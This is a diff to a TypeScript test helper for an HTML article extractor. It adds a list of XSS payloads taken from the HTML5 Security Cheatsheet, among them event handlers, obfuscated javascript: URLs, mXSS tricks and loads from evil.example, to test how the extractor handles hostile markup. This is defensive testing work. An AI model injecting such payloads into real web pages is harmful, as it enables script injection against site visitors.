@@ -305,3 +305,65 @@ export function recall(shownText: string, got: string): { recall: number; missin
   }
   return { recall: total ? found / total : 1, missing };
 }
+
+/** The untouched page a position's case pages are made from: its address, its reviewed reading (expected.json). */
+export function untouchedPage(position: Position): {
+  name: string;
+  url: string;
+  expected: ReturnType<typeof expected> & { byline?: string; images?: { caption?: string }[] };
+} {
+  const name = position.startsWith('epaper') ? EPAPER.name : position === 'portal-body' ? PORTAL.name : GENERIC.name;
+  return {
+    name,
+    url: readFileSync(path.join(FIXTURES, name, 'url.txt'), 'utf8').trim(),
+    expected: expected(name),
+  };
+}
+
+/**
+ * The HTML5 Security Cheatsheet payloads the xss-article fixture carries, grouped, each group
+ * planted between the paragraphs like the malformed markup (their visible text: 点此5, 背景15 …).
+ */
+export const CHEATSHEET_VECTORS: Vector[] = [
+  {
+    name: 'cheatsheet: script, img onerror, svg onload, iframe, javascript: link',
+    html: `<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><circle r="1"/></svg><iframe src="javascript:alert(4)"></iframe><a href="javascript:alert(5)">点此5</a>`,
+  },
+  {
+    name: 'cheatsheet: obfuscated javascript: URLs, data: SVG, object',
+    html: `<a href="JaVaScRiPt:alert(6)">点此6</a><a href="&#106;&#97;vascript:alert(7)">点此7</a><a href=" java&#x09;script:alert(8)">点此8</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+"><object data="javascript:alert(10)"></object>`,
+  },
+  {
+    name: 'cheatsheet: embed, form action, closed math mXSS, style @import and url()',
+    html: `<embed src="javascript:alert(11)"><form action="javascript:alert(12)"><input type="submit" value="12"></form><math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math><style>@import 'javascript:alert(14)';</style><div style="background:url(javascript:alert(15))">背景15</div>`,
+  },
+  {
+    name: 'cheatsheet: base, meta refresh, template, details ontoggle, vbscript:',
+    html: `<base href="javascript:alert(17)//"><meta http-equiv="refresh" content="0;url=javascript:alert(18)"><template><img src=x onerror=alert(19)></template><details open ontoggle=alert(20)><summary>详情20</summary></details><a href="vbscript:msgbox(22)">点此22</a>`,
+  },
+  {
+    name: 'cheatsheet: onmouseover, source onerror, autofocus, marquee, SVG link text',
+    html: `<p onmouseover="alert(24)">悬停24</p><video><source onerror="alert(25)"></video><input autofocus onfocus=alert(26)><marquee onstart=alert(27)>滚动27</marquee><svg><a xlink:href="javascript:alert(29)"><text x="0" y="10">svg29</text></a></svg>`,
+  },
+  {
+    name: 'cheatsheet: srcset, data: link, unknown element, comment-split attribute, textarea',
+    html: `<img src="http://img.workercn.cn/ok.jpg" srcset="javascript:alert(30)" onload="alert(30)"><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=">点此31</a><xss onafterscriptexecute=alert(32)>自定义32</xss><!--<img src="--><img src=x onerror=alert(33)//"><textarea><script>alert(34)</script></textarea>`,
+  },
+  {
+    name: 'cheatsheet: handlers on a real link, scriptlet, import, frameset, formaction',
+    html: `<a href="https://www.workercn.cn/" onclick="alert(35)" style="color:red">正常链接35</a><object type="text/x-scriptlet" data="http://evil.example/x.sct"></object><link rel="import" href="http://evil.example/x.html"><frameset onload=alert(37)></frameset><img src="//evil.example/x.png" onerror="alert(38)" alt="相对协议38"><button formaction="javascript:alert(39)">按钮39</button><a href="  javascript:alert(40)" target="_blank">点此40</a>`,
+  },
+  {
+    name: 'cheatsheet: noscript closed inside an attribute',
+    html: `<noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>`,
+  },
+];
+
+/** The pages whose recall of the shown text is measured (issue 19): malformed markup and the cheatsheet payloads, in each position. */
+export function recallPages(): HostilePage[] {
+  let i = 700;
+  return [
+    ...malformedPages(),
+    ...MALFORMED_POSITIONS.flatMap((p) => CHEATSHEET_VECTORS.map((v) => hostilePage(v, p, i++))),
+  ];
+}
